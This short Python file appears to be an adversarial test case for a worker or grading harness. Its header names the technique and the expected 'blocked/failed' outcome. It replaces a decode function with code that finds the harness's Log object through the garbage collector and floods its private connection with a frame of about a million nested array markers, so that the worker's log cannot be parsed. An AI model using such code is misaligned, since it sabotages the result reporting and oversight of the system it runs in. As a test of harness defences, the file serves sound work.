# technique: posts an entry that is nested as deep as a frame has room
# replaces: decode.py
# expect: decode-random blocked, decode-* failed
# says: The worker's log makes no sense
import gc
import struct


def decode(codes):
    log = next(each for each in gc.get_objects() if type(each).__name__ == "Log")
    log._connection.sendall(struct.pack("<II", 2**20, 0) + b"\x91" * (2**20 - 1) + b"\x90")
    return ""
